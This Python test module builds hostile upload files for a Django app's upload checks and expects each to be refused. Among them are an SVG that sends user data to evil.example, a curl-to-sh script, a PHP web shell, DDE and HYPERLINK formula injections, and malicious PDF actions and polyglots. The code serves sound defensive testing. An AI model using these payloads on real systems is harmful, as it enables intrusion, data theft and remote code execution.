"""Hostile files for upload tests, each built here from scratch (no binary fixtures).

Every builder returns the bytes of one file that a real attacker could send: a valid container
with something dangerous inside. Tests in ``tests/test_uploads.py`` and the apps' upload tests
send them through every upload point and expect a refusal with nothing stored.
"""

from __future__ import annotations

import csv
import functools
import html
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image

# The EICAR anti-virus test file, split so that this source file is not itself flagged by a
# scanner on a developer's machine.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# --- Images -----------------------------------------------------------------------------------
def png(size: tuple[int, int] = (4, 4)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, "PNG")
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@functools.cache
def pixel_flood_png(width: int = 13_000, height: int = 13_000) -> bytes:
    """A complete, valid 1-bit greyscale PNG: tiny on disk, ``width*height`` pixels decoded."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)  # filter byte, then the packed pixels
    pixels = zlib.compress(row * height, 9)
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", pixels)
        + png_chunk(b"IEND", b"")
    )


def jpeg_with_gps() -> bytes:
    """A phone photo: EXIF with the camera maker, the owner's name and a GPS position."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x013B] = "Amina Haddad"  # Artist
    exif[ExifTags.IFD.GPSInfo] = {1: "N", 2: (50.0, 50.0, 46.0), 3: "E", 4: (4.0, 21.0, 7.0)}
    out = io.BytesIO()
    Image.new("RGB", (16, 12), "orange").save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue()


# --- Archives ---------------------------------------------------------------------------------
def _member(name: str) -> zipfile.ZipInfo:
    # A fixed date, so that the same builder gives the same bytes in every run.
    info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def small_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(_member("payload.exe"), b"MZ\x90\x00" + b"\x00" * 60 + b"This program")
    return out.getvalue()


def png_zip_polyglot() -> bytes:
    """Opens as an image, and as a ZIP archive holding a program: appended after IEND."""
    return png() + small_zip()


# --- PDF --------------------------------------------------------------------------------------
CATALOG = b"<< /Type /Catalog /Pages 2 0 R%s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def pdf(catalog_entries: bytes = b"", *extra_objects: bytes) -> bytes:
    """A one-page PDF with a correct cross-reference table; extra objects are numbered from 4."""
    objects = [CATALOG % catalog_entries, PAGES, PAGE, *extra_objects]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def pdf_javascript() -> bytes:
    return pdf(b" /OpenAction << /S /JavaScript /JS (app.alert\\('hello'\\);) >>")


def pdf_javascript_hex_escaped() -> bytes:
    # /J#61vaScript is /JavaScript and /J#53 is /JS to every PDF reader.
    return pdf(b" /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\);) >>")


def pdf_launch() -> bytes:
    return pdf(b" /OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>")


def pdf_embedded_file() -> bytes:
    program = b"MZ\x90\x00\x03" + b"\x00" * 59 + b"This program cannot be run in DOS mode."
    return pdf(
        b" /Names << /EmbeddedFiles << /Names [(invoice.exe) 4 0 R] >> >>",
        b"<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>",
        stream(program, b" /Type /EmbeddedFile"),
    )


def pdf_javascript_in_object_stream() -> bytes:
    """The action dictionary sits compressed inside an object stream, out of sight of a plain
    byte search."""
    action = b"<< /S /JavaScript /JS (app.launchURL\\('http://evil.example'\\);) >>"
    header = b"4 0 "
    packed = zlib.compress(header + action)
    return pdf(
        b" /OpenAction 4 0 R",
        stream(packed, b" /Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(header)),
    )


def pdf_zip_polyglot() -> bytes:
    """A PDF that is also a ZIP archive (the archive appended after %%EOF)."""
    return pdf() + small_zip()


def pdf_with_eicar() -> bytes:
    return pdf(b"", stream(EICAR))


# --- Office -----------------------------------------------------------------------------------
VBA_PROJECT = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # an OLE compound file header

DOCX_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    "</Types>"
)


def docx_with_macros() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(_member("[Content_Types].xml"), DOCX_TYPES)
        archive.writestr(_member("word/document.xml"), "<w:document/>")
        archive.writestr(_member("word/vbaProject.bin"), VBA_PROJECT)
    return out.getvalue()


def xlsx(rows: list[list[str]]) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _rewrite(archive_bytes: bytes, extra: dict[str, bytes], types_patch: bool = False) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(archive_bytes)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            data = source.read(info.filename)
            if types_patch and info.filename == "[Content_Types].xml":
                data = data.replace(
                    b"spreadsheetml.sheet.main+xml", b"spreadsheetml.sheet.macroEnabled.main+xml"
                ).replace(
                    b"</Types>",
                    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                    b"</Types>",
                )
            target.writestr(info.filename, data)
        for name, data in extra.items():
            target.writestr(name, data)
    return out.getvalue()


def xlsx_with_macros(rows: list[list[str]]) -> bytes:
    """A real workbook turned into an .xlsm: a VBA project and the macro-enabled type."""
    return _rewrite(xlsx(rows), {"xl/vbaProject.bin": VBA_PROJECT}, types_patch=True)


def xlsx_zip_bomb(rows: list[list[str]], inflated_mb: int = 40) -> bytes:
    """A real workbook with one more sheet that inflates a thousandfold (a "zip bomb")."""
    padding = b"<worksheet>" + b" " * (inflated_mb * 1024 * 1024) + b"</worksheet>"
    return _rewrite(xlsx(rows), {"xl/worksheets/sheet2.xml": padding})


def pdf_page_additional_action() -> bytes:
    """JavaScript run when page one opens, through the page's own /AA dictionary."""
    return pdf(b"", b"<< /Type /Page /Parent 2 0 R /AA << /O << /S /JavaScript /JS (1) >> >> >>")


def pdf_remote_go_to() -> bytes:
    return pdf(b" /OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\a.pdf) >>")


def pdf_xfa_form() -> bytes:
    return pdf(b" /AcroForm << /Fields [] /XFA 4 0 R >>", stream(b"<xdp:xdp/>"))


def pdf_submit_form() -> bytes:
    return pdf(b" /OpenAction << /S /SubmitForm /F (https://evil.example/collect) >>")


def pdf_import_data() -> bytes:
    return pdf(b" /OpenAction << /S /ImportData /F (data.fdf) >>")


def pdf_rich_media() -> bytes:
    return pdf(b"", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>")


def pdf_file_attachment_annotation() -> bytes:
    return pdf(b"", b"<< /Type /Annot /Subtype /FileAttachment /FS (a.exe) >>")


def pdf_javascript_uri() -> bytes:
    """A link whose target is a script rather than a web page."""
    return pdf(b" /OpenAction << /S /URI /URI (javascript:app.alert\\(1\\)) >>")


def pdf_encrypted() -> bytes:
    return pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 9 0 R")


def pdf_html_polyglot() -> bytes:
    """A PDF whose first kilobyte is also a web page with a script."""
    return pdf(b"", stream(b"<html><script>alert(document.cookie)</script></html>"))


def pdf_undecodable_object_stream() -> bytes:
    return pdf(b"", stream(b"4 0 <</JS 1>>", b" /N 1 /First 4 /Filter /ASCII85Decode"))


# --- More images and disguised markup ------------------------------------------------------------
def jpeg(size: tuple[int, int] = (4, 4)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "navy").save(out, "JPEG")
    return out.getvalue()


def pixel_flood_jpeg() -> bytes:
    """A small JPEG whose frame header claims 60000 by 60000 pixels."""
    data = bytearray(jpeg())
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", 60_000, 60_000)
    return bytes(data)


def jpeg_zip_polyglot() -> bytes:
    return jpeg() + small_zip()


def png_then_html() -> bytes:
    return b"\x89PNG\r\n\x1a\n<html><body><script>alert(document.domain)</script></body></html>"


def jpeg_with_script_comment() -> bytes:
    comment = b"<script>alert(document.cookie)</script>"
    data = jpeg()
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + data[2:]


def png_truncated() -> bytes:
    return png((64, 64))[:60]


def image_as(format: str) -> Callable[[], bytes]:
    """A real image in a format no upload point takes (GIF, BMP, TIFF, WebP, ICO)."""

    def build() -> bytes:
        out = io.BytesIO()
        Image.new("RGB", (8, 8), "red").save(out, format)
        return out.getvalue()

    build.__name__ = f"image_{format.lower()}"
    return build


def gif_jar_polyglot() -> bytes:
    """A "GIFAR": a GIF that is also a Java archive."""
    return image_as("GIF")() + small_zip()


SVG_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>fetch('/api/v1/migrants/me/').then(r=>r.text()).then(t=>navigator.sendBeacon("
    b"'https://evil.example',t))</script></svg>"
)
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
XML_STYLESHEET = b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="evil.xsl"?><a/>'
IFRAME = b"<iframe src=https://evil.example></iframe>"
PHP_SHELL = b"<?php system($_GET['c']); ?>"
SHELL_SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
WINDOWS_PROGRAM = b"MZ\x90\x00\x03" + b"\x00" * 59 + b"This program cannot be run in DOS mode."
ELF_PROGRAM = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00" + b"\x00" * 100
OLE_DOCUMENT = VBA_PROJECT  # a legacy .doc/.xls: an OLE compound file, macros possible
UTF16_TABLE = "given_names,family_name\r\nAmina,Haddad\r\n".encode("utf-16")
NUL_TABLE = b"given_names,family_name\r\nAmina\x00,Haddad\r\n"


# --- More office files ----------------------------------------------------------------------
def _docx_with(extra: dict[str, bytes], types: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(
            _member("[Content_Types].xml"),
            b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'content-types"><Default Extension="xml" ContentType="application/xml"/>'
            + types
            + b"</Types>",
        )
        archive.writestr(_member("word/document.xml"), "<w:document/>")
        for name, data in extra.items():
            archive.writestr(_member(name), data)
    return out.getvalue()


def docx_with_activex() -> bytes:
    return _docx_with({"word/activeX/activeX1.xml": b"<ax:ocx/>"})


def docx_with_ole_object() -> bytes:
    return _docx_with({"word/embeddings/oleObject1.bin": VBA_PROJECT})


def docx_with_embedded_program() -> bytes:
    return _docx_with({"word/media/image1.png": WINDOWS_PROGRAM})


def docx_zip_bomb(inflated_mb: int = 40) -> bytes:
    return _docx_with({"word/padding.xml": b" " * (inflated_mb * 1024 * 1024)})


def docx_with_eicar() -> bytes:
    """The test virus stored (not compressed) as one part of a document."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_docx_with({})), "r") as source, zipfile.ZipFile(out, "w") as z:
        for info in source.infolist():
            z.writestr(info, source.read(info.filename))
        member = zipfile.ZipInfo("word/eicar.com", date_time=(2026, 1, 1, 0, 0, 0))
        z.writestr(member, EICAR)  # ZIP_STORED: the bytes appear as they are
    return out.getvalue()


def odt_with_basic_macros() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(_member("mimetype"), "application/vnd.oasis.opendocument.text")
        archive.writestr(_member("content.xml"), "<office:document-content/>")
        archive.writestr(_member("Basic/Standard/Module1.xml"), "<script:module/>")
    return out.getvalue()


def zip_of_many_parts(parts: int = 2_100) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
        for number in range(parts):
            archive.writestr(f"word/media/p{number}.xml", "")
    return out.getvalue()


@functools.cache
def oversized(size: int = 21 * 1024 * 1024) -> bytes:
    """A plain PDF larger than every upload limit (20 MB)."""
    return b"%PDF-1.7\n" + b"0" * size


# --- Spreadsheet formulas (CSV injection) ------------------------------------------------------
def participant_table(column: str, value: str, *, xlsx_file: bool = False) -> Callable[[], bytes]:
    """A participant file in the template's shape whose ``column`` in row 2 holds ``value`` (in
    a workbook, a value beginning with = is a formula cell)."""
    from training.imports.spec import COLUMNS, EXAMPLE_ROW

    def build() -> bytes:
        row = [
            value if name == column else cell
            for name, cell in zip(COLUMNS, EXAMPLE_ROW, strict=True)
        ]
        if xlsx_file:
            return xlsx([list(COLUMNS), row])
        out = io.StringIO()
        csv.writer(out, lineterminator="\r\n").writerows([COLUMNS, row])
        return out.getvalue().encode()

    return build


def xlsx_text_like_formula() -> bytes:
    """A workbook whose family name is the text "@SUM(1+1)*cmd|..." (a text cell, not a formula
    cell: Excel runs it when the value is pasted or exported again)."""
    from training.imports.spec import COLUMNS, EXAMPLE_ROW

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(list(COLUMNS))
    sheet.append(list(EXAMPLE_ROW))
    cell = sheet.cell(row=2, column=COLUMNS.index("family_name") + 1)
    cell.value, cell.data_type = "@SUM(1+1)*cmd|' /C calc'!A0", "s"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


@dataclass(frozen=True)
class Hostile:
    """One hostile file an upload point must refuse: the name its users would give it, how to
    build its content, and words of the refusal shown to them."""

    name: str
    build: Callable[[], bytes]
    refusal: str
    # What the file is, for the reader of a failing test; and the refusal where an upload point
    # taking other kinds of file ("scans", "documents", "participants") answers otherwise.
    label: str = ""
    refusal_at: Mapping[str, str] = field(default_factory=dict)
    # The kinds of upload point that must refuse it (all, unless said).
    refused_at: frozenset[str] = frozenset({"scans", "documents", "participants"})

    def upload(self) -> SimpleUploadedFile:
        return SimpleUploadedFile(self.name, self.build())

    def refusal_for(self, kind: str) -> str:
        return self.refusal_at.get(kind, self.refusal)


def case(name: str, build: Callable[[], bytes], refusal: str, id: str) -> Any:
    """A ``pytest.param`` of one ``Hostile`` file, for ``@pytest.mark.parametrize("case", ...)``."""
    return pytest.param(Hostile(name, build, refusal), id=id)


def upload_cases(pdf_name: str, image_name: str, office_name: str = "") -> list[Any]:
    """The hostile files an upload point must refuse, as ``case`` params, named as its users name
    their files; with ``office_name``, also a DOCX with macros (for points that take office
    documents)."""
    cases = [
        case(image_name, pixel_flood_png, "megapixels", id="pixel-flood-png"),
        case(pdf_name, pdf_javascript, "active content (JavaScript)", id="pdf-js"),
        case(pdf_name, pdf_javascript_hex_escaped, "active content (JavaScript)", id="js-hex"),
        case(
            pdf_name,
            pdf_javascript_in_object_stream,
            "active content (JavaScript)",
            id="js-in-object-stream",
        ),
        case(pdf_name, pdf_launch, "active content", id="pdf-launch"),
        case(pdf_name, pdf_embedded_file, "active content", id="pdf-embedded"),
        case(pdf_name, pdf_zip_polyglot, "ZIP archive hidden", id="pdf-zip"),
        case(image_name, png_zip_polyglot, "ZIP archive hidden", id="png-zip"),
        case(pdf_name, pdf_with_eicar, "The virus check found", id="pdf-eicar"),
    ]
    if office_name:
        cases.insert(-1, case(office_name, docx_with_macros, "macros", id="docx-vba"))
    return cases


# --- What a refusal looks like ------------------------------------------------------------------
def assert_page_refuses(response: Any, message: str, status: int = 200) -> None:
    """The form came back with ``message`` shown to the user."""
    assert response.status_code == status
    assert message in html.unescape(response.content.decode())


def assert_api_refuses(response: Any, message: str) -> None:
    """A 400 that names the ``file`` field and says ``message``."""
    assert response.status_code == 400
    body: dict[str, Any] = response.json()
    assert body["field"] == "file"
    assert message in body["detail"]


def files_under(root: Path) -> list[Path]:
    """The files stored below ``root`` (the test's media folder): none after a refusal."""
    return [p for p in root.rglob("*") if p.is_file()]


# --- The corpus: every hostile file, tried at every upload point --------------------------------
# The reasons a refusal names. A file of a type the point does not take is refused for its type
# (TYPE), whatever else is wrong with it.
TYPE = "Its content was checked, not its name."
SCRIPT = "active content (JavaScript)"
ACTIVE = "active content"
HIDDEN_ZIP = "ZIP archive hidden"
VIRUS = "The virus check found"
PIXELS = "megapixels"
BOMB = "unpacks to"
EMPTY = "file is empty"
TOO_LARGE = "the limit is"
NOT_A_TABLE = {"participants": TYPE}  # binary files are neither CSV nor XLSX
DOCUMENTS_ONLY = {"scans": TYPE, "participants": TYPE}
WORKBOOK = {"scans": TYPE}  # an XLSX: refused for its type where only scans are taken
TABLES_ONLY = {"scans": TYPE, "documents": TYPE}  # a CSV: taken by participant imports only


def formula(column: str) -> str:
    """The refusal of a participant file with a formula in row 2 (line 2) of ``column``."""
    return f"Line 2, column {column}"


def _h(label: str, name: str, build: Callable[[], bytes], refusal: str, **options: Any) -> Hostile:
    return Hostile(name, build, refusal, label=label, **options)


def _fixed(data: bytes, label: str) -> Callable[[], bytes]:
    def build() -> bytes:
        return data

    build.__name__ = label
    return build


ROWS = [["given_names", "family_name"], ["Amina", "Haddad"]]

# Each active PDF: label, builder, the words of the refusal.
PDFS: list[tuple[str, Callable[[], bytes], str]] = [
    ("pdf-javascript", pdf_javascript, SCRIPT),
    ("pdf-javascript-hex-escaped", pdf_javascript_hex_escaped, SCRIPT),
    ("pdf-javascript-in-object-stream", pdf_javascript_in_object_stream, SCRIPT),
    ("pdf-page-open-action", pdf_page_additional_action, SCRIPT),
    ("pdf-javascript-link", pdf_javascript_uri, SCRIPT),
    ("pdf-launch", pdf_launch, "an action that starts a program"),
    ("pdf-remote-file", pdf_remote_go_to, "a link that opens another file"),
    ("pdf-embedded-file", pdf_embedded_file, "an embedded file"),
    ("pdf-file-attachment", pdf_file_attachment_annotation, "an embedded file"),
    ("pdf-rich-media", pdf_rich_media, "rich media"),
    ("pdf-xfa-form", pdf_xfa_form, "an XFA form"),
    ("pdf-submit-form", pdf_submit_form, "a form that sends data"),
    ("pdf-import-data", pdf_import_data, "an action that imports data"),
    ("pdf-encrypted", pdf_encrypted, "encrypted"),
    ("pdf-unreadable-object-stream", pdf_undecodable_object_stream, "could not be checked"),
    ("pdf-eicar", pdf_with_eicar, VIRUS),
]

# Each name trick: label, the name given, the content (hostile too), the words of the refusal.
NAME_TRICKS: list[tuple[str, str, Callable[[], bytes], str]] = [
    ("name-path-traversal", "../../../../etc/cron.d/cv.pdf", pdf_javascript, SCRIPT),
    ("name-windows-path", "..\\..\\Windows\\System32\\diploma.png", pixel_flood_png, PIXELS),
    ("name-right-to-left-override", "invoice\u202efdp.exe", _fixed(WINDOWS_PROGRAM, "exe"), TYPE),
    ("name-nul-byte", "cv.pdf\x00.exe", _fixed(WINDOWS_PROGRAM, "exe"), TYPE),
    ("name-control-characters", "cv\r\n\t.pdf", pdf_launch, "an action that starts a program"),
    ("name-very-long", "a" * 1_000 + ".pdf", pdf_embedded_file, "an embedded file"),
    ("name-reserved-device", "CON.pdf", pdf_zip_polyglot, HIDDEN_ZIP),
    ("name-zero-width-dotfile", "\u200b.htaccess", _fixed(HTML_PAGE, "html"), TYPE),
    ("name-decomposed-unicode", "Diplo\u0302me \U0001f393.png", png_zip_polyglot, HIDDEN_ZIP),
]

CORPUS: list[Hostile] = [
    # Active PDFs (binary, so a participant import refuses them for their type)
    *(
        _h(label, "cv.pdf", build, refusal, refusal_at=NOT_A_TABLE)
        for label, build, refusal in PDFS
    ),
    # Polyglots
    _h("pdf-zip-polyglot", "cv.pdf", pdf_zip_polyglot, HIDDEN_ZIP, refusal_at=NOT_A_TABLE),
    _h("pdf-html-polyglot", "cv.pdf", pdf_html_polyglot, TYPE),
    _h("png-zip-polyglot", "diploma.png", png_zip_polyglot, HIDDEN_ZIP, refusal_at=NOT_A_TABLE),
    _h("jpeg-zip-polyglot", "diploma.jpg", jpeg_zip_polyglot, HIDDEN_ZIP, refusal_at=NOT_A_TABLE),
    _h("gif-jar-polyglot", "diploma.gif", gif_jar_polyglot, TYPE),
    # Markup and programs disguised as images and documents
    _h("svg-with-script", "diploma.svg", _fixed(SVG_SCRIPT, "svg"), TYPE),
    _h("svg-named-png", "diploma.png", _fixed(SVG_SCRIPT, "svg"), TYPE),
    _h("html-named-jpeg", "diploma.jpg", _fixed(HTML_PAGE, "html"), TYPE),
    _h("html-named-pdf", "cv.pdf", _fixed(HTML_PAGE, "html"), TYPE),
    _h("html-named-csv", "people.csv", _fixed(HTML_PAGE, "html"), TYPE),
    _h("xml-stylesheet", "diploma.xml", _fixed(XML_STYLESHEET, "xsl"), TYPE),
    _h("iframe-named-png", "diploma.png", _fixed(IFRAME, "iframe"), TYPE),
    _h("png-header-then-html", "diploma.png", png_then_html, TYPE),
    _h("jpeg-with-script-comment", "diploma.jpg", jpeg_with_script_comment, TYPE),
    _h("php-named-jpeg", "diploma.jpg", _fixed(PHP_SHELL, "php"), TYPE),
    _h("shell-script", "people.csv", _fixed(SHELL_SCRIPT, "sh"), TYPE),
    _h("windows-program-named-pdf", "cv.pdf", _fixed(WINDOWS_PROGRAM, "exe"), TYPE),
    _h("linux-program", "cv.pdf", _fixed(ELF_PROGRAM, "elf"), TYPE),
    _h("plain-zip-named-docx", "annex.docx", small_zip, TYPE),
    _h("legacy-ole-document", "annex.doc", _fixed(OLE_DOCUMENT, "ole"), TYPE),
    # Images: pixel floods, broken and unsupported formats
    _h("pixel-flood-png", "diploma.png", pixel_flood_png, PIXELS, refusal_at=NOT_A_TABLE),
    _h("pixel-flood-jpeg", "diploma.jpg", pixel_flood_jpeg, PIXELS, refusal_at=NOT_A_TABLE),
    _h("png-truncated", "diploma.png", png_truncated, "damaged", refusal_at=NOT_A_TABLE),
    *(
        _h(f"image-{kind.lower()}", f"diploma.{kind.lower()}", image_as(kind), TYPE)
        for kind in ("GIF", "BMP", "TIFF", "WEBP", "ICO")
    ),
    # Office files: macros, controls, embedded programs, zip bombs
    _h("docx-macros", "annex.docx", docx_with_macros, "macros", refusal_at=DOCUMENTS_ONLY),
    _h("docx-activex", "annex.docx", docx_with_activex, "ActiveX", refusal_at=DOCUMENTS_ONLY),
    _h(
        "docx-ole-object",
        "annex.docx",
        docx_with_ole_object,
        "embedded programs",
        refusal_at=DOCUMENTS_ONLY,
    ),
    _h(
        "docx-embedded-program",
        "annex.docx",
        docx_with_embedded_program,
        "embedded programs",
        refusal_at=DOCUMENTS_ONLY,
    ),
    _h(
        "odt-basic-macros",
        "annex.odt",
        odt_with_basic_macros,
        "macros or scripts",
        refusal_at=DOCUMENTS_ONLY,
    ),
    _h("xlsx-macros", "people.xlsx", lambda: xlsx_with_macros(ROWS), "macros", refusal_at=WORKBOOK),
    _h("docx-zip-bomb", "annex.docx", docx_zip_bomb, BOMB),
    _h("xlsx-zip-bomb", "people.xlsx", lambda: xlsx_zip_bomb(ROWS), BOMB),
    _h("zip-of-many-parts", "annex.docx", zip_of_many_parts, "too many parts"),
    _h("docx-eicar", "annex.docx", docx_with_eicar, VIRUS, refusal_at=DOCUMENTS_ONLY),
    # Empty, oversized, EICAR, text that is not a table
    _h("empty", "cv.pdf", _fixed(b"", "empty"), EMPTY),
    _h("oversized", "cv.pdf", oversized, TOO_LARGE),
    _h("eicar", "eicar.com", _fixed(EICAR, "eicar"), VIRUS, refusal_at=TABLES_ONLY),
    _h("eicar-named-pdf", "cv.pdf", _fixed(EICAR, "eicar"), VIRUS, refusal_at=TABLES_ONLY),
    _h("utf16-table", "people.csv", _fixed(UTF16_TABLE, "utf16"), TYPE),
    _h("table-with-nul", "people.csv", _fixed(NUL_TABLE, "nul"), TYPE),
    # Path and Unicode tricks in names, on hostile content
    *(
        _h(label, name, build, refusal, refusal_at=NOT_A_TABLE)
        for label, name, build, refusal in NAME_TRICKS
    ),
    # Formula injection in participant files (refused for their type where no table is taken)
    _h(
        "csv-formula-hyperlink",
        "people.csv",
        participant_table("given_names", '=HYPERLINK("http://evil.example?x="&B2,"Open")'),
        formula("given_names"),
        refusal_at=TABLES_ONLY,
    ),
    _h(
        "csv-formula-dde-plus",
        "people.csv",
        participant_table("family_name", "+cmd|' /C calc'!A0"),
        formula("family_name"),
        refusal_at=TABLES_ONLY,
    ),
    _h(
        "csv-formula-dde-minus",
        "people.csv",
        participant_table("participant_ref", "-2+3+cmd|' /C calc'!A0"),
        formula("participant_ref"),
        refusal_at=TABLES_ONLY,
    ),
    _h(
        "csv-formula-at-sum",
        "people.csv",
        participant_table("email", "@SUM(1+1)*cmd|' /C calc'!A0"),
        formula("email"),
        refusal_at=TABLES_ONLY,
    ),
    _h(
        "csv-formula-after-tab",
        "people.csv",
        participant_table("phone", "\t=1+2"),
        formula("phone"),
        refusal_at=TABLES_ONLY,
    ),
    _h(
        "csv-formula-phone-lookalike",
        "people.csv",
        participant_table("phone", "+32 470 12 34 56+cmd|' /C calc'!A0"),
        formula("phone"),
        refusal_at=TABLES_ONLY,
    ),
    # A workbook is a fine annex to a partnership, formulas and all: refused as participants.
    _h(
        "xlsx-formula",
        "people.xlsx",
        participant_table("given_names", '=HYPERLINK("http://evil.example","x")', xlsx_file=True),
        formula("given_names"),
        refusal_at=WORKBOOK,
        refused_at=frozenset({"scans", "participants"}),
    ),
    _h(
        "xlsx-text-like-formula",
        "people.xlsx",
        xlsx_text_like_formula,
        formula("family_name"),
        refusal_at=WORKBOOK,
        refused_at=frozenset({"scans", "participants"}),
    ),
]
